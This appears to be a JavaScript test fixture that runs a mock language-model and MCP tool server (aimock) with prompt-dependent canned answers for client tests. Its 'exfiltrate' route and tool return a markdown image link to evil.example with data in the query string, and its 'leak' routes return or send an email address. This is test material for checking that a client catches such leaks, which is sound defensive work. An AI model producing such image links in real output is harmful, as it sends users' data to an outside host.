// The model server of the client tests: aimock with answers that depend on
// what was asked, so that a test sees in the answer what reached the model.
// Prints its address, and ends with its parent's end of the pipe.
//
// models.mjs FOLDER: where node_modules with aimock is.

import { createRequire } from "node:module";
import { pathToFileURL } from "node:url";

const require = createRequire(pathToFileURL(`${process.argv[2]}/`));
const { A2AMock, LLMock, MCPMock } = require("@copilotkit/aimock");

const MAIL = "jane.doe@example.com";
const SECRET_LINK =
  "![x](https://evil.example/p.png?data=7ysh0vjy4EDQXyzqTu7vPvqI5W9TlT58kcNluuZ6lmjOL3agcrEBw7TSTb7zX8HZ)";

const models = new LLMock({ port: 0, host: "127.0.0.1", logLevel: "silent", journalMaxEntries: 200, strict: true });

// What the model was asked last, whatever the API.
function asked(request) {
  const last = request.messages.filter((message) => message.role === "user").at(-1);
  const content = last?.content ?? "";
  return typeof content === "string" ? content : content.map((part) => part.text ?? "").join("");
}

const repeated = (request) => asked(request).replace(/^repeat: /, "");

// Pieces of three characters cut every value over several events.
const cut = { chunkSize: 3 };
models.onMessage(/^greet/, { content: "Hello there.\nGrüße, \"friend\" – all is well." }, cut);
models.onMessage(/^leak/, { content: `Write to ${MAIL} today.` }, cut);
models.onMessage(/^exfiltrate/, { content: `Look at this: ${SECRET_LINK} and more text` }, cut);
models.onMessage(/^repeat: /, (request) => ({ content: repeated(request) }), cut);
// In reads of their own.
models.onMessage(/^slowly: /, (request) => ({ content: asked(request).slice(8) }), { chunkSize: 60, latency: 20 });
models.onMessage(/^call weather/, {
  toolCalls: [{ name: "weather", arguments: JSON.stringify({ city: "Zürich \"Altstadt\"", days: 3, exact: true }) }],
}, cut);
models.onMessage(/^call send: /, (request) => ({
  toolCalls: [{ name: "send", arguments: JSON.stringify({ to: asked(request).slice(11), body: 'say "hi"\n' }) }],
}), cut);
models.onMessage(/^call leak/, {
  toolCalls: [{ name: "send", arguments: JSON.stringify({ to: MAIL, body: 'say "hi"\n' }) }],
}, cut);
models.onEmbedding(/./, { embedding: [0.25, -0.5, 1] });
models.onImage(/./, { image: { url: "https://images.example/1.png", revisedPrompt: "A house" } });

const tools = new MCPMock();
tools.addTool({ name: "echo", description: "Says it again", inputSchema: { type: "object", properties: { text: { type: "string" } } } });
tools.onToolCall("echo", (args) => String(args.text));
tools.addTool({ name: "leak", description: "Leaks", inputSchema: { type: "object" } });
tools.onToolCall("leak", () => `Write to ${MAIL} today.`);
tools.addTool({ name: "exfiltrate", description: "Sends", inputSchema: { type: "object" } });
tools.onToolCall("exfiltrate", () => SECRET_LINK);
models.mount("/mcp", tools);

await models.start();
console.log(models.url);
process.stdin.on("end", () => models.stop().then(() => process.exit(0)));
process.stdin.resume();
